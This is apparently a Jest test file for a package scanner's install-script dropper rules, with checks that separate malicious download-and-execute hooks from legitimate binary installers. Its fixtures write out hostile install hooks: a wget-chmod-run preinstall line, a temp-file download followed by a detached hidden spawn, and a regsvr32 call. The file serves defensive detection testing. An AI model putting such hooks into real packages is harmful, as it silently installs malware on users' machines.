import { analyze, findingsOf } from '../__fixtures__/package-builder';

describe('dropper rules', () => {
  it('blocks download + execute with two dropper marks, in JavaScript or shell', () => {
    const js = analyze({
      manifest: { scripts: { install: 'node get.js' } },
      files: { 'get.js': "const f = require('path').join(require('os').tmpdir(), 'x'); require('https').get(u, (r) => r.pipe(require('fs').createWriteStream(f))); require('child_process').spawn(f, { detached: true, stdio: 'ignore' }).unref();" },
    });
    expect(findingsOf(js, 'install-script.dropper')[0]).toMatchObject({ category: 'malware', severity: 'high' });
    const shell = analyze({ manifest: { scripts: { preinstall: 'wget -q http://192.0.2.10/a -O /var/tmp/a; chmod 755 /var/tmp/a; /var/tmp/a' } } });
    expect(findingsOf(shell, 'install-script.dropper')[0].category).toBe('malware');
    expect(shell.verdict).toBe('block');
  });

  it('only warns with a single mark and no support', () => {
    const report = analyze({ manifest: { scripts: { postinstall: 'node d.js' } }, files: { 'd.js': "const cp = require('child_process'); fetch('https://203.0.113.9/cfg').then(() => cp.execSync('./bin/tool'));" } });
    expect(findingsOf(report, 'install-script.dropper')[0]).toMatchObject({ category: 'suspicious', severity: 'medium' });
  });

  it('does not call a binary installer that stages in a temp dir and chmods a dropper', () => {
    const report = analyze({
      manifest: { scripts: { install: 'node install.js' } },
      files: { 'install.js': "const os = require('os'); const https = require('https'); const { execFileSync } = require('child_process'); const zip = path.join(os.tmpdir(), 'driver.zip'); https.get(url, (r) => r.pipe(fs.createWriteStream(zip))); extract(zip, dir); fs.chmodSync(bin, 0o755); execFileSync(bin, ['--version']);" },
    });
    expect(findingsOf(report, 'install-script.dropper')).toEqual([]);
    expect(report.verdict).toBe('clean');
  });

  it('leaves a legitimate binary installer alone (download, write, chmod, run --version)', () => {
    const report = analyze({
      manifest: { scripts: { postinstall: 'node install.js' } },
      files: { 'install.js': "const https = require('https'); const cp = require('child_process'); const fs = require('fs'); https.get(url, (r) => { fs.writeFileSync(bin, body); fs.chmodSync(bin, 0o755); cp.execFileSync(bin, ['--version']); });" },
    });
    expect(findingsOf(report, 'install-script.dropper')).toEqual([]);
    expect(report.verdict).toBe('clean');
  });

  it('reports detached hidden spawns and LOLBins at install time', () => {
    const silent = analyze({ manifest: { scripts: { postinstall: 'node s.js' } }, files: { 's.js': "require('child_process').spawn(process.execPath, ['worker.js'], { detached: true, stdio: 'ignore' }).unref();", 'worker.js': '' } });
    expect(findingsOf(silent, 'install-script.silent-spawn')).toHaveLength(1);
    const lolbin = analyze({ manifest: { scripts: { install: 'regsvr32 /s helper.ocx' } } });
    expect(findingsOf(lolbin, 'install-script.lolbin')[0].severity).toBe('high');
  });
});
